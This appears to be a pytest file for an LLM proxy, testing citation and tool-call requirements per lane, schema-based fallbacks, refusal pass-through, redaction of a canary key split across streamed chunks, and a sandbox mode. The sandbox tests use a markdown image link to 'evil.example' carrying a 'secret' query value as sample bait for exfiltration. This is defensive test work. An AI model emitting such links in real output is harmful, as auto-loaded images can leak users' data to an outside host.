"""What comes back is judged, taken apart and freed of keys, over HTTP, streamed and whole."""

import json
from typing import Any

import pytest

from tests.server.harness import CANARY, events, pool, serving
from tests.server.upstream import Upstream, answer, sse
from tests.server.vendors import (
    CHAT_USAGE,
    DONE,
    ROLE,
    call,
    chat,
    chat_end,
    chat_event,
    chat_stream,
    event,
    message,
    message_stream,
    words,
)

KEY = f"{CANARY}-alpha"
KB = {"type": "function", "function": {"name": "search", "parameters": {"type": "object"}}}
FALL_BACK = [{"from": "*", "to": "small", "when": "schema_invalid"}]


def lane(**fields):
    """A config whose lane `answers` takes every request for `gpt`, and demands this of its answers."""
    return {"lanes": {"answers": {"models": ["gpt"], **fields}}, "fallbacks": FALL_BACK}


def calling(text, *, strict=None):
    tool = {"name": "search", "parameters": {"type": "object", "required": ["q"]}, "strict": strict}
    one = call(0, "search", text)
    reply = sse(ROLE, chat_event({"tool_calls": [one]}), chat_event({}, "tool_calls"), CHAT_USAGE, DONE)
    return [{"type": "function", "function": tool}], chat(None, calls=(one,), finish="tool_calls"), reply


def said(got):
    """The words that a caller of either kind of chat was sent, streamed or not."""
    if "text/event-stream" not in got.headers["content-type"]:
        return got.json()["choices"][0]["message"]["content"]
    chunks = [
        one["choices"][0]["delta"] for one in events(got.text) if one != "[DONE]" and one.get("choices")
    ]
    return "".join(delta.get("content") or "" for delta in chunks)


# --- lanes ------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "outcome"), [("28 days [1].", "ok"), ("28 days [2].", "schema_invalid")])
async def test_a_lane_that_requires_citations_takes_no_answer_that_makes_them_up(tmp_path, text, outcome):
    messages = [{"role": "user", "content": [{"type": "text", "text": "Leave: 28 days.", "source": "kb"}]}]
    sections = lane(output={"citations": "required"})
    async with (
        Upstream(chat("It says [kb]."), chat(text)) as up,
        serving(tmp_path, pool(up.url, sources={"kb": "trusted"}, **sections)) as server,
    ):
        got = await server.chat(model="lane:answers", messages=messages)
        assert got.status_code == 200
        first, *others = server.record(got).attempts
        assert first.outcome == outcome
        assert first.validation is not None
        assert first.validation.checks == ("citations of the lane answers",)
        assert [one.validation and one.validation.verdict for one in others] == ["passed"] * len(others)


async def test_a_stream_without_the_citations_that_its_lane_requires_ends_in_an_error(tmp_path):
    sections = lane(output={"citations": "required"})
    async with (
        Upstream(chat_stream("28 ", "days.")) as up,
        serving(tmp_path, pool(up.url, **sections)) as server,
    ):
        got = await server.chat(model="lane:answers", stream=True)
        assert said(got) == "28 days."
        assert "[DONE]" not in got.text
        assert events(got.text)[-1]["error"]["code"] == "upstream_failed"
        record = server.record(got)
        assert (record.status, record.attempts[0].outcome) == ("failed", "schema_invalid")
        assert record.validation is not None
        assert record.validation.triggers == ("schema_invalid",)


@pytest.mark.parametrize("stream", [False, True])
async def test_the_list_that_a_searching_provider_sends_along_is_what_its_numbers_cite(tmp_path, stream):
    found: dict[str, Any] = {
        "citations": ["https://a.example"],
        "search_results": [{"url": "https://a.example"}],
    }
    chunk: dict[str, Any] = {
        "id": "c",
        "choices": [{"index": 0, "delta": {"content": "28 days [1]."}}],
        **found,
    }
    reply = sse(event(chunk), chat_end()) if stream else chat("28 days [1].", **found)
    sections = lane(output={"citations": "required"})
    async with Upstream(reply) as up, serving(tmp_path, pool(up.url, **sections)) as server:
        got = await server.chat(model="lane:answers", stream=stream)
        assert server.record(got).status == "ok"
        assert got.text.count("https://a.example") == 2


async def test_a_lane_that_requires_a_tool_says_so_before_it_calls_anybody(tmp_path):
    async with (
        Upstream(chat()) as up,
        serving(tmp_path, pool(up.url, **lane(require_tools=["search"]))) as server,
    ):
        got = await server.chat(model="lane:answers")
        assert (got.status_code, got.json()["error"]["param"]) == (400, "tools")
        assert up.seen == []


@pytest.mark.parametrize("stream", [False, True])
async def test_a_lane_that_requires_a_tool_takes_no_answer_without_its_call(tmp_path, stream):
    sections: dict[str, Any] = {"lanes": {"answers": {"models": ["gpt"], "require_tools": ["search"]}}}
    reply = chat_stream("28 days.") if stream else chat("28 days.")
    async with Upstream(reply) as up, serving(tmp_path, pool(up.url, **sections)) as server:
        got = await server.chat(model="lane:answers", tools=[KB], stream=stream)
        assert "upstream_failed" in got.text
        (attempt,) = server.record(got).attempts
        assert attempt.outcome == "schema_invalid"
        assert attempt.validation is not None
        assert attempt.validation.triggers == ("tools_incomplete",)


# --- tools ------------------------------------------------------------------------------------


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("strict", "output", "status"),
    [(None, {}, "ok"), (True, {}, "failed"), (None, {"tool_arguments": "valid"}, "failed")],
    ids=["noted", "a strict tool", "a lane that asks for it"],
)
async def test_u18_a_call_against_its_schema_is_withheld_where_it_must_be_met(
    tmp_path, strict, output, status, stream
):
    tools, whole, streamed = calling("{}", strict=strict)
    sections: dict[str, Any] = {"lanes": {"answers": {"models": ["gpt"], "output": output}}}
    async with (
        Upstream(streamed if stream else whole) as up,
        serving(tmp_path, pool(up.url, **sections)) as server,
    ):
        got = await server.chat(model="lane:answers", tools=tools, stream=stream)
        assert ("tool_calls" in got.text) == (status == "ok")
        record = server.record(got)
        assert record.status == status
        (attempt,) = record.attempts
        assert attempt.violations == ("tool_arguments: `search` was called against its JSON Schema",)
        assert attempt.validation is not None
        assert (attempt.validation.verdict, attempt.validation.triggers) == ("failed", ("schema_invalid",))


@pytest.mark.parametrize("stream", [False, True])
async def test_u18_a_call_against_its_schema_makes_way_for_the_model_that_stands_by_and_passes_without_one(
    tmp_path, stream
):
    tools, whole, streamed = calling("{}")
    other = chat_stream("so") if stream else chat("so")
    rows = [{"from": "gpt", "to": "small", "when": "schema_invalid"}]
    bad = streamed if stream else whole
    async with (
        Upstream(bad, bad, other) as up,
        serving(tmp_path, pool(up.url, fallbacks=rows)) as server,
    ):
        got = await server.chat(tools=tools, stream=stream)
        assert got.headers["x-interlock-route"].endswith("/small")
        assert "tool_calls" not in got.text
        record = server.record(got)
        assert [one.outcome for one in record.attempts] == ["schema_invalid", "ok"]
        alone = await server.chat(tools=tools, stream=stream)
        record = server.record(alone)
        assert [one.outcome for one in record.attempts] == ["schema_invalid", "ok"]
        assert "tool_calls" in alone.text
        assert record.attempts[1].validation is not None
        assert record.attempts[1].validation.verdict == "failed"


@pytest.mark.parametrize("stream", [False, True])
async def test_u18_a_call_against_its_schema_passes_where_the_model_that_stands_by_is_left_alone(
    tmp_path, stream
):
    tools, whole, streamed = calling("{}")
    rows = [{"from": "gpt", "to": "small", "when": "schema_invalid"}]
    config = pool("", fallbacks=rows, resilience={"breaker": {"failures": 1, "open_s": 60}})
    async with Upstream(streamed if stream else whole, answer({}, 500)) as up:
        config["providers"]["alpha"]["base_url"] = f"{up.url}/v1"
        async with serving(tmp_path, config) as server:
            assert (await server.chat(model="small")).status_code == 502
            got = await server.chat(tools=tools, stream=stream)
            assert "tool_calls" in got.text
            assert server.record(got).status == "ok"


@pytest.mark.parametrize("stream", [False, True])
async def test_a_withheld_call_is_recorded_with_a_verdict_that_agrees(tmp_path, stream):
    _, whole, streamed = calling("{")
    async with Upstream(streamed if stream else whole) as up, serving(tmp_path, pool(up.url)) as server:
        got = await server.chat(tools=[KB], stream=stream)
        (attempt,) = server.record(got).attempts
        assert attempt.validation is not None
        assert (attempt.outcome, attempt.validation.verdict) == ("schema_invalid", "failed")


@pytest.mark.parametrize("stream", [False, True])
async def test_a_refusal_of_a_structured_answer_reaches_the_caller_as_a_refusal(tmp_path, stream):
    refusal = {"refusal": "I will not."}
    whole = {"role": "assistant", "content": None, **refusal}
    choice = {"index": 0, "message": whole, "finish_reason": "stop"}
    reply = sse(ROLE, chat_event(refusal), chat_end()) if stream else chat("", choices=[choice])
    asked = {"type": "json_schema", "json_schema": {"name": "n", "schema": {"type": "object"}}}
    async with Upstream(reply) as up, serving(tmp_path, pool(up.url)) as server:
        got = await server.chat(response_format=asked, stream=stream)
        assert got.status_code == 200
        assert "I will not." in got.text
        (attempt,) = server.record(got).attempts
        assert (attempt.outcome, attempt.refused) == ("ok", True)
        assert attempt.validation is not None
        assert (attempt.validation.verdict, attempt.validation.triggers) == ("unchecked", ("refused",))


# --- sandbox ----------------------------------------------------------------------------------

SANDBOX = [{"name": "box", "then": {"safety_mode": "sandbox"}}]
BAIT = "Look: ![x](https://evil.example/?q=secret)"
INERT = "Look: ![x] (https[:]//evil[.]example/?q=secret)"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 100])
async def test_a1_a_link_split_over_chunks_of_a_sandboxed_stream_is_inert(tmp_path, size):
    pieces = [BAIT[at : at + size] for at in range(0, len(BAIT), size)]
    async with (
        Upstream(chat_stream(*pieces)) as up,
        serving(tmp_path, pool(up.url, policy=SANDBOX)) as server,
    ):
        got = await server.chat(stream=True)
        assert said(got) == INERT
        assert events(got.text)[-1] == "[DONE]"


async def test_a1_a_whole_answer_of_a_sandboxed_request_is_inert_and_its_schema_judges_what_was_said(
    tmp_path,
):
    schema = {"type": "object", "properties": {"a": {"const": "https://evil.example"}}}
    asked = {"type": "json_schema", "json_schema": {"name": "n", "schema": schema}}
    async with (
        Upstream(chat('{"a": "https://evil.example"}')) as up,
        serving(tmp_path, pool(up.url, policy=SANDBOX)) as server,
    ):
        got = await server.chat(response_format=asked)
        assert json.loads(said(got)) == {"a": "https[:]//evil.example"}


@pytest.mark.parametrize("stream", [False, True])
async def test_a1_the_other_dialect_is_inert_too(tmp_path, stream):
    reply = message_stream("see [a", "](//e", "vil.com)") if stream else message("see [a](//evil.com)")
    async with (
        Upstream(reply) as up,
        serving(tmp_path, pool(up.url, up.url, policy=SANDBOX)) as server,
    ):
        got = await server.message(model="claude", stream=stream)
        assert "](" not in got.text
        assert "evil.com" not in got.text


# --- keys -------------------------------------------------------------------------------------


@pytest.mark.parametrize("at", range(1, len(KEY), 5))
async def test_a17_a_key_split_over_events_leaves_in_none_of_them(tmp_path, at):
    reply = sse(ROLE, *words("it is " + KEY[:at], KEY[at:] + "."), chat_end())
    async with Upstream(reply) as up, serving(tmp_path, pool(up.url)) as server:
        got = await server.chat(stream=True)
        assert said(got) == "it is …."


@pytest.mark.parametrize("at", [1, 9, len(KEY) - 1])
async def test_a17_a_key_split_over_a_calls_arguments_does_not_leave(tmp_path, at):
    first = call(0, "search", '{"q":"' + KEY[:at])
    more = {"index": 0, "function": {"arguments": KEY[at:] + '"}'}}
    reply = sse(
        ROLE,
        chat_event({"tool_calls": [first]}),
        chat_event({"tool_calls": [more]}),
        chat_event({}, "tool_calls"),
        CHAT_USAGE,
        DONE,
    )
    async with Upstream(reply) as up, serving(tmp_path, pool(up.url)) as server:
        got = await server.chat(tools=[KB], stream=True)
        assert '{\\"q\\":\\"…\\"}' in got.text
        assert events(got.text)[-1] == "[DONE]"
